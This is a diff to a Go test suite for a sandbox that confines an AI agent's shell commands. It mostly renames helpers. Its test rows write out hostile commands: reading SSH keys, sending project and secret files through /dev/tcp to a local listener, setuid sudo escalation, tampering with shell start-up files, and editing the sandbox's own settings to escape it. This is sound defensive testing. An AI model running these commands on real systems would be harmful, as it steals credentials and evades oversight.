@@ -24,7 +24,7 @@ func TestARogueAgentCanReadAndWriteTheProject(t *testing.T) {
 	row{
 		line: func(*scene) string { return "cat main.rs && echo changed >> main.rs && mkdir d && mv main.rs d/" },
 		works: func(s *scene, _ string) bool {
-			return harness.Read(t, s.inside("d/main.rs")) == "fn main() {}\nchanged\n"
+			return harness.Read(t, s.ProjectPath("d/main.rs")) == "fn main() {}\nchanged\n"
 		},
 	}.can(t)
 }
@@ -47,7 +47,7 @@ func TestARogueAgentCanRunTheSystemsPrograms(t *testing.T) {
 // additional_executable_paths it runs.
 func TestARogueAgentCannotRunCargo(t *testing.T) {
 	build := row{
-		line:  func(s *scene) string { return "PATH=" + s.home(".cargo/bin") + ":$PATH; cargo build" },
+		line:  func(s *scene) string { return "PATH=" + s.HomePath(".cargo/bin") + ":$PATH; cargo build" },
 		works: shows("compiled build"),
 	}
 	t.Run("granted", func(t *testing.T) {
@@ -63,7 +63,7 @@ func TestARogueAgentCannotRunCargo(t *testing.T) {
 // Lists the documents in the home directory. Only the project in it is granted,
 // and what shells read at start-up.
 func TestARogueAgentCannotListDocuments(t *testing.T) {
-	row{line: func(s *scene) string { return "ls " + s.home("Documents") }, works: shows("letter")}.cannot(t)
+	row{line: func(s *scene) string { return "ls " + s.HomePath("Documents") }, works: shows("letter")}.cannot(t)
 }
 
 // Reads /etc/passwd. It is granted: programs look up names in it.
@@ -74,13 +74,13 @@ func TestARogueAgentCanReadThePasswordFile(t *testing.T) {
 // Reads what ssh needs: the user's configuration and key. ~/.ssh is not
 // granted.
 func TestARogueAgentCannotReadSSHKeys(t *testing.T) {
-	row{line: func(s *scene) string { return "cat " + s.home(".ssh/id_ed25519") }, works: leaked}.cannot(t)
+	row{line: func(s *scene) string { return "cat " + s.HomePath(".ssh/id_ed25519") }, works: leaked}.cannot(t)
 }
 
 // Reads ssh's configuration, which names hosts and users. ~/.ssh is not
 // granted.
 func TestARogueAgentCannotReadSSHConfiguration(t *testing.T) {
-	row{line: func(s *scene) string { return "cat " + s.home(".ssh/config") }, works: leaked}.cannot(t)
+	row{line: func(s *scene) string { return "cat " + s.HomePath(".ssh/config") }, works: leaked}.cannot(t)
 }
 
 // Sends a file of the project over the network. allow_network is true by
@@ -91,7 +91,7 @@ func TestARogueAgentCanSendTheProjectOverTheNetwork(t *testing.T) {
 	}
 	received := make(chan string, 4)
 	listener, err := net.Listen("tcp", "127.0.0.1:0")
-	must(t, err)
+	harness.Must(t, err)
 	done := make(chan struct{})
 	go func() {
 		defer close(done)
@@ -113,7 +113,7 @@ func TestARogueAgentCanSendTheProjectOverTheNetwork(t *testing.T) {
 	_, port, _ := net.SplitHostPort(listener.Addr().String())
 	row{
 		line: func(s *scene) string {
-			return "bash -c 'cat main.rs " + s.outside("secret") + " >/dev/tcp/127.0.0.1/" + port + "'"
+			return "bash -c 'cat main.rs " + s.OutsidePath("secret") + " >/dev/tcp/127.0.0.1/" + port + "'"
 		},
 		works: func(s *scene, output string) bool {
 			select {
@@ -136,12 +136,12 @@ func TestARogueAgentCannotSendAnythingWithTheNetworkOff(t *testing.T) {
 	t.Parallel()
 	harness.Require(t, "network")
 	listener, err := net.Listen("tcp", "127.0.0.1:0") // nobody need accept: the kernel does
-	must(t, err)
+	harness.Must(t, err)
 	t.Cleanup(func() { listener.Close() })
 	_, port, _ := net.SplitHostPort(listener.Addr().String())
 	for allowed, want := range map[bool]string{true: "sent\n", false: "Permission denied"} {
 		s := rogueScene(t)
-		e := s.start(harness.Defaults(harness.Sandbox{"allow_network": allowed}))
+		e := s.Start(harness.Defaults(harness.Sandbox{"allow_network": allowed}))
 		output, status := e.Tool("bash -c 'cat main.rs >/dev/tcp/127.0.0.1/" + port + " && echo sent'")
 		if !allowed && harness.Namespaces(t) {
 			want = "Connection refused" // by the session's own localhost, where nobody listens
@@ -160,21 +160,21 @@ func TestARogueAgentCannotUseSudo(t *testing.T) {
 	const nobody = 65534
 	try := func(settings string) string {
 		if os.Geteuid() != 0 {
-			output, _ := newScene(t).start(settings).Tool("sudo -n id -u")
+			output, _ := newScene(t).Start(settings).Tool("sudo -n id -u")
 			return strings.TrimSpace(output)
 		}
 		s := newScene(t)
-		must(t, os.Chmod(filepath.Dir(s.Home), 0o755))
-		must(t, os.Chmod(filepath.Dir(filepath.Dir(s.Home)), 0o755))
+		harness.Must(t, os.Chmod(filepath.Dir(s.Home), 0o755))
+		harness.Must(t, os.Chmod(filepath.Dir(filepath.Dir(s.Home)), 0o755))
 		e := harness.Start(t, s.World, harness.Options{Settings: settings, Wrap: func(command *exec.Cmd) {
-			must(t, filepath.WalkDir(filepath.Dir(s.Home), func(path string, _ os.DirEntry, err error) error {
+			harness.Must(t, filepath.WalkDir(filepath.Dir(s.Home), func(path string, _ os.DirEntry, err error) error {
 				if err != nil {
 					return err
 				}
 				return os.Lchown(path, nobody, nobody)
 			}))
-			s.copyVictim(s.inside("sudo"))
-			must(t, os.Chmod(s.inside("sudo"), 0o755|os.ModeSetuid))
+			s.CopyVictim(s.ProjectPath("sudo"))
+			harness.Must(t, os.Chmod(s.ProjectPath("sudo"), 0o755|os.ModeSetuid))
 			command.SysProcAttr = &unix.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
 		}})
 		output, _ := e.Tool("./sudo privileges")
@@ -204,7 +204,7 @@ func TestARogueAgentCannotChangeTheSystem(t *testing.T) {
 			row{
 				prepare: func(*scene) {
 					made, err := os.CreateTemp(dir, "sidecar-test-")
-					must(t, err)
+					harness.Must(t, err)
 					made.Close()
 					file = made.Name()
 					t.Cleanup(func() { os.Remove(made.Name()) })
@@ -219,7 +219,7 @@ func TestARogueAgentCannotChangeTheSystem(t *testing.T) {
 // Reads the shell's start-up file. It is granted for reading, or shells would
 // start without it.
 func TestARogueAgentCanReadShellStartUpFiles(t *testing.T) {
-	row{line: func(s *scene) string { return "cat " + s.home(".zshrc") }, works: shows("alias visible")}.can(t)
+	row{line: func(s *scene) string { return "cat " + s.HomePath(".zshrc") }, works: shows("alias visible")}.can(t)
 }
 
 // Changes the shell's start-up file, in place and by replacing it. It is
@@ -229,8 +229,8 @@ func TestARogueAgentCannotChangeShellStartUpFiles(t *testing.T) {
 		"remove": "rm -f %"} {
 		t.Run(name, func(t *testing.T) {
 			row{
-				line:  func(s *scene) string { return strings.ReplaceAll(line, "%", s.home(".zshrc")) },
-				works: func(s *scene, _ string) bool { return harness.Read(t, s.home(".zshrc")) != "alias visible=true\n" },
+				line:  func(s *scene) string { return strings.ReplaceAll(line, "%", s.HomePath(".zshrc")) },
+				works: func(s *scene, _ string) bool { return harness.Read(t, s.HomePath(".zshrc")) != "alias visible=true\n" },
 			}.cannot(t)
 		})
 	}
@@ -254,9 +254,9 @@ func TestARogueAgentCanOnlyRemoveWhatItMayWrite(t *testing.T) {
 	harness.Require(t, "filesystem")
 	try := func(settings string) *scene {
 		s := rogueScene(t)
-		e := s.start(settings)
+		e := s.Start(settings)
 		root := filepath.Dir(s.Home)
-		if name := filepath.Base(root); !strings.HasPrefix(name, "sidecar-test-") || !exists(s.victim) {
+		if name := filepath.Base(root); !strings.HasPrefix(name, "sidecar-test-") || !exists(s.Victim) {
 			t.Fatalf("%s is not a tree of this test", root)
 		}
 		e.Spawn(protocol.SpawnParams{
@@ -266,16 +266,16 @@ func TestARogueAgentCanOnlyRemoveWhatItMayWrite(t *testing.T) {
 		}).Exit()
 		return s
 	}
-	if s := try(harness.Off()); exists(s.outside("secret")) || exists(s.home(".zshrc")) || exists(s.inside("main.rs")) {
+	if s := try(harness.Off()); exists(s.OutsidePath("secret")) || exists(s.HomePath(".zshrc")) || exists(s.ProjectPath("main.rs")) {
 		t.Error("control: without a sandbox everything must be gone")
 	}
 	s := try(harness.Defaults(nil))
-	if exists(s.inside("main.rs")) {
+	if exists(s.ProjectPath("main.rs")) {
 		t.Error("the project is writable, and its files are still there")
 	}
 	for _, path := range []string{
-		s.outside("secret"), s.home(".zshrc"), s.home(
-			"Documents/letter"), s.home(".ssh/id_ed25519"), s.home(".cargo/bin/cargo"), s.UserSettings(),
+		s.OutsidePath("secret"), s.HomePath(".zshrc"), s.HomePath(
+			"Documents/letter"), s.HomePath(".ssh/id_ed25519"), s.HomePath(".cargo/bin/cargo"), s.UserSettings(),
 	} {
 		if !exists(path) {
 			t.Errorf("THE ATTACK WORKS: %s is gone", path)
@@ -285,7 +285,7 @@ func TestARogueAgentCanOnlyRemoveWhatItMayWrite(t *testing.T) {
 
 // Reads a file in another home directory. It is not granted.
 func TestARogueAgentCannotReadOtherHomes(t *testing.T) {
-	row{line: func(s *scene) string { return "cat " + s.outside("secret") }, works: leaked}.cannot(t)
+	row{line: func(s *scene) string { return "cat " + s.OutsidePath("secret") }, works: leaked}.cannot(t)
 }
 
 // Writes the sandbox's own settings, to be freer next time. The directory that
